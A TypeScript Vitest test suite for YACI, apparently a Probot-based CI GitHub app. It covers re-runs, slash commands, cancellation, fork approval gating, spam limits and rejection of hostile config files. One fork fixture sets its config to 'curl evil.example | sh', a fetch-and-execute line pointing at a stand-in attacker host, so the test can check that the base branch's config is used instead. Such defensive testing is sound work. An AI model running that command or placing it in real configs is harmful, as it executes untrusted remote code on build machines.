import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Probot } from "probot";
import { createApp } from "../../src/app.js";
import { createGitHubClient, type Deps } from "../../src/deps.js";
import { FakeExecutor } from "../fakes/fake-executor.js";
import { startGitHubStandIn, type GitHubStandIn } from "../support/github-stand-in.js";
import { TEST_APP_ID, TEST_PRIVATE_KEY } from "../support/test-app-keys.js";
import { loadExample, withInstallation } from "../support/webhooks.js";

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Any = any;
const INSTALLATION = 77;
const OWNER = "Codertocat";
const REPO = "Hello-World";
/** What app.yml asks for. */
const APP_PERMISSIONS = { metadata: "read", contents: "read", checks: "write", pull_requests: "write", members: "read" } as const;

let github: GitHubStandIn;
let probot: Probot;
let deps: Deps;
let fake: FakeExecutor;
let seq = 0;

beforeAll(async () => {
  github = await startGitHubStandIn({ installationPermissions: { ...APP_PERMISSIONS } });
  github.setPermission(OWNER, REPO, "maintainer", "write");
  github.setPermission(OWNER, REPO, "reader", "read");
});
afterAll(async () => {
  await github.close();
});

async function load(env: Record<string, string> = {}) {
  fake = new FakeExecutor();
  const client = createGitHubClient();
  probot = new Probot({ appId: TEST_APP_ID, privateKey: TEST_PRIVATE_KEY, secret: "s", baseUrl: github.baseUrl, Octokit: client.Octokit, logLevel: "warn" });
  const dir = mkdtempSync(join(tmpdir(), "yaci-workflow-"));
  await probot.load(createApp({ YACI_DATA_DIR: dir, YACI_CATCHUP_INTERVAL: "off", ...env }, { github: client, executor: fake, reporterRetryDelaysMs: [50, 50, 50] }, (d) => (deps = d)), {
    cwd: process.cwd(),
    addHandler: () => {},
  });
}
beforeEach(() => load());

const newSha = () => (++seq).toString(16).padStart(6, "0") + "ab".repeat(17);
const settle = async () => {
  await new Promise((r) => setTimeout(r, 30));
  await deps.reporter.idle();
};
const receive = async (name: string, payload: Any, id = `d-${Math.random()}`) => {
  await probot.receive({ id, name, payload } as Any);
  await settle();
};
const runsOf = (sha: string) => github.checkRunsFor(OWNER, REPO, sha);
const ofJob = (sha: string, job: string) => runsOf(sha).filter((r) => r.name === job);

function pushPayload(sha: string, ref = "refs/heads/main") {
  const p: Any = withInstallation(loadExample("push", (x) => x.ref.startsWith("refs/heads/") && !x.deleted), INSTALLATION);
  return { ...p, ref, after: sha, before: "0".repeat(39) + "1" };
}
async function push(config: string, ref = "refs/heads/main") {
  const sha = newSha();
  github.setFiles(OWNER, REPO, sha, { ".yaci.yml": config });
  await receive("push", pushPayload(sha, ref));
  return sha;
}
const TWO_JOBS = "jobs:\n  test:\n    run: npm test\n  lint:\n    run: npm run lint\n";
/** A check_run / check_suite example (they come from other repositories) moved to OWNER/REPO, or `repo`. */
function inRepo(p: Any, repo = REPO, owner = OWNER): Any {
  p.repository = { ...p.repository, name: repo, full_name: `${owner}/${repo}`, owner: { ...p.repository.owner, login: owner } };
  return p;
}
const idOf = (sha: string, job: string) => fake.started.filter((s) => s.key.sha === sha && s.key.job === job).at(-1)!.id;

function prPayload(number: number, sha: string, opts: { fork?: boolean; author?: string; action?: string } = {}) {
  const p: Any = withInstallation(loadExample("pull_request", (x) => x.action === "opened"), INSTALLATION);
  p.action = opts.action ?? "opened";
  p.number = number;
  p.pull_request.number = number;
  p.pull_request.head.sha = sha;
  p.pull_request.user.login = opts.author ?? "maintainer";
  if (opts.fork) p.pull_request.head.repo = { ...p.pull_request.head.repo, id: 9999, full_name: "mallory/Hello-World" };
  github.setPull(OWNER, REPO, number, { ...p.pull_request, head: p.pull_request.head, base: p.pull_request.base });
  return p;
}
/** A comment written now (or at `writtenAt`, e.g. before a push that GitHub delivered first). */
function comment(number: number, body: string, author = "maintainer", writtenAt = new Date()) {
  const p: Any = withInstallation(loadExample("issue_comment", (x) => x.action === "created"), INSTALLATION);
  p.issue.number = number;
  p.issue.pull_request = { url: `https://api.github.com/repos/${OWNER}/${REPO}/pulls/${number}`, html_url: `https://github.com/${OWNER}/${REPO}/pull/${number}` };
  const at = writtenAt.toISOString();
  p.comment = { ...p.comment, id: 1000 + ++seq, body, created_at: at, updated_at: at, user: { ...p.comment.user, login: author, type: "User" } };
  p.sender = { ...p.sender, login: author, type: "User" };
  return p;
}

describe("re-runs", () => {
  it("Re-run of one check run runs that job again as a new check run of the same name", async () => {
    const sha = await push(TWO_JOBS);
    const first = idOf(sha, "test");
    fake.finish(first, "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const old = ofJob(sha, "test")[0]!;
    const p: Any = inRepo(withInstallation(loadExample("check_run", (x) => x.action === "rerequested"), INSTALLATION));
    p.check_run = { ...p.check_run, id: old.id, external_id: old.external_id, head_sha: sha, name: "test" };
    await receive("check_run", p);
    expect(fake.started.filter((s) => s.key.job === "test").map((s) => s.attempt)).toEqual([1, 2]);
    const runs = ofJob(sha, "test");
    expect(runs.map((r) => [r.status, r.conclusion])).toEqual([["completed", "failure"], ["queued", null]]);
    expect(runs[1]!.external_id).toBe(idOf(sha, "test"));
    expect(ofJob(sha, "lint")).toHaveLength(1);
  });

  it("Re-run all checks runs every job of the commit again", async () => {
    const sha = await push(TWO_JOBS);
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const p: Any = withInstallation(loadExample("check_suite", (x) => x.action === "rerequested"), INSTALLATION);
    p.check_suite = { ...p.check_suite, head_sha: sha, head_branch: "main" };
    await receive("check_suite", p);
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`).sort()).toEqual(["lint#1", "lint#2", "test#1", "test#2"]);
  });
});

describe("comment commands", () => {
  it("/retest re-runs the failed jobs of the PR's head; /retest <job> that job; each is acknowledged", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(10, sha));
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const c1 = comment(10, "/retest");
    await receive("issue_comment", c1);
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2"]);
    expect(github.reactions.filter((r) => r.comment_id === c1.comment.id).map((r) => r.content)).toEqual(["+1"]);
    await receive("issue_comment", comment(10, "/retest lint"));
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2", "lint#2"]);
    expect(github.comments.filter((c) => c.issue_number === 10)).toEqual([]);
  });

  it("/cancel cancels the running jobs of the PR's head and says who asked", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(11, sha));
    fake.run(idOf(sha, "test"));
    await receive("issue_comment", comment(11, "/cancel"));
    expect(fake.cancelled.sort()).toEqual([idOf(sha, "lint"), idOf(sha, "test")].sort());
    const test = ofJob(sha, "test")[0]!;
    expect(test).toMatchObject({ status: "completed", conclusion: "cancelled" });
    expect(test.output.title).toBe("Cancelled: requested by @maintainer");
  });

  it("refuses a command from someone without write access, with a reply", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(12, sha));
    fake.finish(idOf(sha, "test"), "failed", 1);
    await receive("issue_comment", comment(12, "/retest", "reader"));
    expect(fake.started.filter((s) => s.key.sha === sha)).toHaveLength(2);
    const replies = github.comments.filter((c) => c.issue_number === 12).map((c) => c.body);
    expect(replies).toEqual(["@reader: only people with write access to this repository can use `/retest`."]);
  });

  it("answers an unknown command with a short reply listing the commands", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(13, sha));
    await receive("issue_comment", comment(13, "/deploy now"));
    const [reply] = github.comments.filter((c) => c.issue_number === 13);
    expect(reply!.body).toMatch(/Unknown command `\/deploy`.*`\/retest`/);
  });
});

describe("cancellation", () => {
  it("the Cancel button cancels the job; the summary says who", async () => {
    const sha = await push("run: sleep 100\n");
    const id = idOf(sha, "build");
    fake.run(id);
    await settle();
    const live = ofJob(sha, "build")[0]!;
    expect(live.actions).toEqual([{ label: "Cancel", description: "Stop this job", identifier: "cancel" }]);
    const p: Any = inRepo(withInstallation(loadExample("check_run", (x) => x.action === "requested_action"), INSTALLATION));
    p.check_run = { ...p.check_run, id: live.id, external_id: id, head_sha: sha };
    p.requested_action = { identifier: "cancel" };
    p.sender = { ...p.sender, login: "maintainer" };
    await receive("check_run", p);
    const done = ofJob(sha, "build")[0]!;
    expect(done).toMatchObject({ status: "completed", conclusion: "cancelled" });
    expect(done.output.summary).toContain("**Cancelled:** requested by @maintainer");
    expect(done.actions).toEqual([]);
  });

  it("a second push to the branch cancels the first push's running jobs as superseded", async () => {
    const first = await push("run: sleep 100\n", "refs/heads/feature");
    fake.run(idOf(first, "build"));
    const other = await push("run: sleep 100\n", "refs/heads/other");
    const second = await push("run: sleep 100\n", "refs/heads/feature");
    const [old] = ofJob(first, "build");
    expect(old).toMatchObject({ conclusion: "cancelled" });
    expect(old!.output.summary).toContain(`superseded by ${second.slice(0, 7)}`);
    expect(ofJob(other, "build")[0]!.status).toBe("queued");
    expect(ofJob(second, "build")[0]!.status).toBe("queued");
  });

  it("cancel_superseded: false keeps older runs going", async () => {
    const first = await push("cancel_superseded: false\nrun: sleep 100\n", "refs/heads/keep");
    await push("cancel_superseded: false\nrun: sleep 100\n", "refs/heads/keep");
    expect(ofJob(first, "build")[0]!.status).toBe("queued");
    expect(fake.cancelled).toEqual([]);
  });
});

describe("fork pull requests", () => {
  it("run nothing for a non-collaborator until /ok-to-test approves exactly the head SHA; a new push waits again", async () => {
    const sha = newSha();
    // The fork's own config would run anything: YACI takes the base branch's instead.
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": "run: curl evil.example | sh\n" });
    const base = newSha();
    github.setFiles(OWNER, REPO, base, { ".yaci.yml": "jobs:\n  test:\n    run: npm test\n" });
    github.setRef(OWNER, REPO, "master", base);
    const pr = prPayload(20, sha, { fork: true, author: "mallory" });
    await receive("pull_request", pr);
    expect(fake.started).toEqual([]);
    const [gate] = runsOf(sha);
    expect(gate).toMatchObject({ name: "yaci/approval", status: "completed", conclusion: "action_required", details_url: pr.pull_request.html_url });
    expect(gate!.output.summary).toContain("/ok-to-test");
    expect(gate!.output.summary).toContain(sha);

    await receive("issue_comment", comment(20, "/ok-to-test", "mallory")); // not a maintainer: refused
    expect(fake.started).toEqual([]);
    await receive("issue_comment", comment(20, "/ok-to-test"));
    expect(fake.started.map((s) => [s.key.sha, s.key.job, s.run])).toEqual([[sha, "test", "npm test"]]);
    expect(runsOf(sha).find((r) => r.name === "yaci/approval")!.output.title).toBe("Approved by @maintainer");

    const next = newSha();
    await receive("pull_request", prPayload(20, next, { fork: true, author: "mallory", action: "synchronize" }));
    expect(fake.started.filter((s) => s.key.sha === next)).toEqual([]);
    expect(runsOf(next).map((r) => [r.name, r.conclusion])).toEqual([["yaci/approval", "action_required"]]);
  });

  it("a fork PR opened by someone with write access runs at once (with the base branch's config)", async () => {
    const sha = newSha();
    const base = newSha();
    github.setFiles(OWNER, REPO, base, { ".yaci.yml": "run: make test\n" });
    github.setRef(OWNER, REPO, "master", base);
    await receive("pull_request", prPayload(21, sha, { fork: true, author: "maintainer" }));
    expect(fake.started.map((s) => [s.key.sha, s.run])).toEqual([[sha, "make test"]]);
  });
});

describe("exactly once", () => {
  it("a redelivered webhook starts nothing new; two concurrent identical deliveries start one run", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": "run: echo hi\n" });
    const p = pushPayload(sha);
    await Promise.all([probot.receive({ id: "same", name: "push", payload: p } as Any), probot.receive({ id: "same", name: "push", payload: p } as Any)]);
    await receive("push", p, "same");
    expect(fake.started).toHaveLength(1);
    expect(runsOf(sha)).toHaveLength(1);
    // A re-run redelivered starts exactly one new attempt.
    fake.finish(fake.started[0]!.id, "failed", 1);
    await settle();
    const r: Any = inRepo(withInstallation(loadExample("check_run", (x) => x.action === "rerequested"), INSTALLATION));
    r.check_run = { ...r.check_run, external_id: fake.started[0]!.id, head_sha: sha };
    await receive("check_run", r, "rerun-1");
    await receive("check_run", r, "rerun-1");
    expect(fake.started.map((s) => s.attempt)).toEqual([1, 2]);
  });
});

describe("annotations and commit statuses", () => {
  it("120 error lines become 120 annotations sent in three requests of at most 50", async () => {
    const sha = await push("run: tsc\n");
    const id = idOf(sha, "build");
    const log = Array.from({ length: 120 }, (_, i) => `src/file${i}.ts(${i + 1},5): error TS2322: Type 'string' is not assignable to type 'number'.`).join("\n");
    await deps.logs.write(id, log + "\n");
    fake.finish(id, "failed", 2);
    await settle();
    const [run] = ofJob(sha, "build");
    const writes = run!.history.filter((h: Any) => h.output?.annotations);
    expect(writes.map((h: Any) => h.output.annotations.length)).toEqual([50, 50, 20]);
    expect(run!.annotations).toHaveLength(120);
    expect(run!.annotations[0]).toMatchObject({ path: "src/file0.ts", start_line: 1, annotation_level: "failure" });
    expect(github.violations).toEqual([]);
  });

  it("with YACI_COMMIT_STATUSES=true every check run is mirrored as a commit status yaci/<job>", async () => {
    await load({ YACI_COMMIT_STATUSES: "true" });
    github.addInstallation(INSTALLATION, { permissions: { ...APP_PERMISSIONS, statuses: "write" } });
    const sha = await push(TWO_JOBS);
    fake.run(idOf(sha, "test"));
    await settle();
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const mine = github.statuses.filter((s: Any) => s.sha === sha);
    const of = (context: string) => mine.filter((s: Any) => s.context === context);
    expect(of("yaci/test").map((s: Any) => s.state)).toEqual(["pending", "pending", "failure"]);
    expect(of("yaci/lint").map((s: Any) => s.state)).toEqual(["pending", "success"]);
    expect(of("yaci/test").at(-1)!.description).toMatch(/^Failed: exit code 1/);
    expect(github.violations).toEqual([]);
    github.addInstallation(INSTALLATION, { permissions: { ...APP_PERMISSIONS } });
  });
});

describe("fork approval is pinned to the commit the maintainer saw", () => {
  /** Waits until the clock has moved past `iso` (so that what happens next is strictly later). */
  const after = (iso: string) => {
    while (Date.now() <= Date.parse(iso));
  };
  const approvalOf = (sha: string) => deps.store.list((r) => r.spec.key.sha === sha && r.spec.key.job === "yaci/approval")[0]!;
  async function forkWaiting(number: number) {
    const base = newSha();
    github.setFiles(OWNER, REPO, base, { ".yaci.yml": "jobs:\n  test:\n    run: npm test\n" });
    github.setRef(OWNER, REPO, "master", base);
    const first = newSha();
    await receive("pull_request", prPayload(number, first, { fork: true, author: "mallory" }));
    return first;
  }

  it("/ok-to-test approves the head that waited when the comment was written, not a push that came after", async () => {
    const first = await forkWaiting(30);
    after(approvalOf(first).createdAt);
    const written = new Date();
    after(written.toISOString());
    // The fork pushes just before the comment is handled (or the comment is redelivered hours later).
    const second = newSha();
    await receive("pull_request", prPayload(30, second, { fork: true, author: "mallory", action: "synchronize" }));
    await receive("issue_comment", comment(30, "/ok-to-test", "maintainer", written));
    expect(fake.started.map((s) => [s.key.sha, s.key.job])).toEqual([[first, "test"]]);
    expect(runsOf(second).map((r) => [r.name, r.conclusion])).toEqual([["yaci/approval", "action_required"]]);
    const [reply] = github.comments.filter((c) => c.issue_number === 30).map((c) => c.body);
    expect(reply).toContain(`Approved \`${first}\``);
    expect(reply).toContain(`head is now \`${second.slice(0, 7)}\``);
  });

  it("/ok-to-test <sha> approves exactly that commit (a 7-character prefix is enough); a bad SHA is refused", async () => {
    const first = await forkWaiting(31);
    const second = newSha();
    await receive("pull_request", prPayload(31, second, { fork: true, author: "mallory", action: "synchronize" }));
    await receive("issue_comment", comment(31, `/ok-to-test ${first.slice(0, 7)}`));
    expect(fake.started.map((s) => s.key.sha)).toEqual([first]);
    await receive("issue_comment", comment(31, "/ok-to-test abc"));
    await receive("issue_comment", comment(31, `/ok-to-test ${"f".repeat(40)}`));
    expect(fake.started.map((s) => s.key.sha)).toEqual([first]);
    await receive("issue_comment", comment(31, `/ok-to-test ${second}`));
    expect(fake.started.map((s) => s.key.sha)).toEqual([first, second]);
    const replies = github.comments.filter((c) => c.issue_number === 31).map((c) => c.body);
    expect(replies).toEqual([
      `@maintainer: Approved \`${first}\` for testing. The pull request's head is now \`${second.slice(0, 7)}\`: it needs its own \`/ok-to-test\`.`,
      "@maintainer: `/ok-to-test <sha>` takes a commit SHA (7 to 40 hex characters), got `abc`.",
      `@maintainer: No commit \`${"f".repeat(40)}\` of this pull request is waiting for approval. Its head is \`${second}\`.`,
      `@maintainer: Approved \`${second}\` for testing.`,
    ]);
  });
});

describe("re-run and cancel events name runs exactly", () => {
  it("a Re-run or Cancel whose external_id is not a run of that repository and commit does nothing", async () => {
    const sha = await push(TWO_JOBS);
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.run(idOf(sha, "lint"));
    await settle();
    const other = newSha();
    const rerun = (repo: string, headSha: string) => {
      const p: Any = inRepo(withInstallation(loadExample("check_run", (x) => x.action === "rerequested"), INSTALLATION), repo);
      p.check_run = { ...p.check_run, external_id: idOf(sha, "test"), head_sha: headSha };
      return p;
    };
    await receive("check_run", rerun(REPO, other)); // another commit
    await receive("check_run", rerun("Other-Repo", sha)); // another repository
    const cancel: Any = inRepo(withInstallation(loadExample("check_run", (x) => x.action === "requested_action"), INSTALLATION), "Other-Repo");
    cancel.check_run = { ...cancel.check_run, external_id: idOf(sha, "lint"), head_sha: sha };
    cancel.requested_action = { identifier: "cancel" };
    await receive("check_run", cancel);
    const suite: Any = inRepo(withInstallation(loadExample("check_suite", (x) => x.action === "rerequested"), INSTALLATION), "Other-Repo");
    suite.check_suite = { ...suite.check_suite, head_sha: sha, head_branch: "main" };
    await receive("check_suite", suite);
    expect(fake.started.map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1"]);
    expect(fake.cancelled).toEqual([]);
    // The same events for the right repository and commit do their work.
    await receive("check_run", rerun(REPO, sha));
    expect(fake.started.map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2"]);
  });
});

describe("comment spam cannot spend the write budget", () => {
  const repliesTo = (n: number) => github.comments.filter((c) => c.issue_number === n).map((c) => c.body);
  const lookups = (user: string) => github.requests.filter((r) => r.path.endsWith(`/collaborators/${user}/permission`)).length;

  it("unknown commands get one help reply per pull request per hour, only for writers, quoting one short line", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(40, sha));
    const before = lookups("reader");
    for (let i = 0; i < 3; i++) await receive("issue_comment", comment(40, `/deploy-${"x".repeat(500)}\n/foo\n/bar`, "reader"));
    expect(repliesTo(40)).toEqual([]);
    expect(lookups("reader") - before).toBe(1); // at most once per user and pull request per hour
    for (let i = 0; i < 3; i++) await receive("issue_comment", comment(40, `/deploy-${"x".repeat(500)}\n/foo`));
    const replies = repliesTo(40);
    expect(replies).toHaveLength(1);
    expect(replies[0]!).toMatch(/^@maintainer: Unknown command `\/deploy-x{25}…`\. YACI understands/);
    expect(replies[0]!.length).toBeLessThan(400);
    expect(replies[0]!.split("\n")).toHaveLength(1);
  });

  it("a refusal is sent once per user and pull request; only the first 10 command lines are read", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(41, sha));
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    await receive("issue_comment", comment(41, "/retest", "reader"));
    await receive("issue_comment", comment(41, "/retest\n/cancel", "reader"));
    expect(repliesTo(41)).toEqual(["@reader: only people with write access to this repository can use `/retest`."]);
    // 10 command lines, then `/retest`: the eleventh is not read.
    await receive("issue_comment", comment(41, `${Array.from({ length: 10 }, (_, i) => `/x${i}`).join("\n")}\n/retest`));
    expect(fake.started.filter((s) => s.key.sha === sha)).toHaveLength(2);
    await receive("issue_comment", comment(41, `${Array.from({ length: 2000 }, () => "/retest").join("\n")}`));
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2"]);
    expect(github.violations).toEqual([]);
  });
});

describe("hostile .yaci.yml files get a failed `yaci` check run, never a crash", () => {
  const yaciCheck = (sha: string) => ofJob(sha, "yaci")[0]!;

  it("a file over 1 MB (GitHub sends no content) is refused naming its size and the limit", async () => {
    const sha = await push(`run: |\n${"  echo hello world\n".repeat(60_000)}`);
    const check = yaciCheck(sha);
    expect(check).toMatchObject({ status: "completed", conclusion: "failure" });
    expect(check.output.summary).toContain("the file is 1.1 MiB (1,140,007 bytes), more than the limit of 512 KiB (524,288 bytes)");
    expect(fake.started).toEqual([]);
    expect(github.violations).toEqual([]);
  });

  it("a file between the limit and 1 MB is refused too", async () => {
    const sha = await push(`run: |\n${"  echo hello world\n".repeat(30_000)}`);
    expect(yaciCheck(sha).output.summary).toContain("more than the limit of 512 KiB");
  });

  it("a NUL in run, an environment past 128 KiB and jobs `Test` and `test` are refused with line and column", async () => {
    const sha = await push(`env: { BIG: "${"x".repeat(140_000)}" }\nrun: make\n`);
    const summary = yaciCheck(sha).output.summary;
    expect(summary).toContain("line 1, column 6: `env` is 136.7 KiB (140,005 bytes), more than the limit of 128 KiB (131,072 bytes) per job");
    expect(fake.started).toEqual([]);
    const sha2 = await push(["jobs:", "  Test:", '    run: "echo \\0 evil"', "  test:", "    run: npm test", ""].join("\n"));
    const s2 = yaciCheck(sha2).output.summary;
    expect(s2).toContain("line 3, column 10: `jobs.Test.run` contains a NUL character");
    expect(s2).toContain("line 4, column 3: job name `test` differs from job `Test` only in case");
    expect(fake.started).toEqual([]);
  });
});
